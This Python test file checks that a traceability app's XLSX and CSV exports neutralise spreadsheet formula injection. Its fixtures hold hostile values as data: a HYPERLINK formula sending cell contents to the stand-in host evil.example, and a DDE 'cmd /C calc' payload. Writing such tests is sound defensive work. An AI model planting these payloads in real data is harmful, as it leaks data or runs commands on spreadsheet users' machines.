"""Issue 16.1: text typed by staff never becomes a formula in an exported spreadsheet.

A station registers a producer named like a HYPERLINK formula and an event located at `=1+2`;
the regulator's XLSX must hold them as string cells (no `<f>` element anywhere) and the CSV as
text a spreadsheet program shows (a leading `'`), while plain negative numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import pytest

from tests import factories
from trace.services.events import append_event

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A2,"点击核对")'
EVIL_PLACE = "=1+2"


@pytest.fixture()
def poisoned(db_session, make_user):
    station = make_user("station")
    producer = factories.producer(db_session, station, name=EVIL_NAME, kind="cooperative")
    admin = make_user("admin")
    batch = factories.batch(db_session, admin, producer_id=producer.id)
    when = dt.datetime(2025, 9, 20, 10, tzinfo=dt.UTC)
    append_event(db_session, station, batch, "drying", when, EVIL_PLACE, {"note": "@SUM(A1:A9)"})
    append_event(db_session, station, batch, "storing", when, "\t-cmd|' /C calc'!A0")
    db_session.flush()
    return batch


def test_xlsx_export_holds_strings_never_formulas(client, as_role, poisoned):
    answer = client.get(
        f"/api/v1/exports/events.xlsx?batch_id={poisoned.id}", headers=as_role("regulator")
    )
    assert answer.status_code == 200
    with zipfile.ZipFile(io.BytesIO(answer.get_data())) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = "".join(book.read(n).decode() for n in sheets)
        strings = "xl/sharedStrings.xml"
        shared = book.read(strings).decode() if strings in book.namelist() else ""
    assert not re.search(r"<f[ >]", xml), "a formula cell in the export"
    text = xml + shared
    assert "=HYPERLINK(" in text and "=1+2" in text  # kept, as data
    assert re.search(r'<c r="I2" [^>]*t="n"|<c r="I2"[^>]*><v>', xml)  # quantity still a number


def test_csv_export_neutralises_formula_cells(client, as_role, poisoned):
    answer = client.get(
        f"/api/v1/exports/events.csv?batch_id={poisoned.id}", headers=as_role("regulator")
    )
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL_NAME in cells
    assert "'" + EVIL_PLACE in cells
    assert "'\t-cmd|' /C calc'!A0" in cells
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),  # a plain number stays a number
        ("+4", "+4"),
        ("三台村", "三台村"),
        ("", ""),
        (12, 12),
    ],
)
def test_csv_safe(value, shown):
    from trace.cells import csv_safe

    assert csv_safe(value) == shown


def test_public_dashboard_csv_neutralises_formula_cells(client, db_session, make_user):
    from trace.services.targets import create_target

    create_target(
        db_session,
        make_user("admin"),
        code="formula_probe",
        label_zh='=HYPERLINK("http://evil.example/","点击")',
        label_en="+1+2",
        target_value=1,
        unit="@SUM(A1)",
        metric="county_centres",
    )
    db_session.flush()
    answer = client.get("/program/dashboard.csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    [probe] = [row for row in rows if row[0] == "formula_probe"]
    assert probe[1:4] == ['\'=HYPERLINK("http://evil.example/","点击")', "'+1+2", "'@SUM(A1)"]
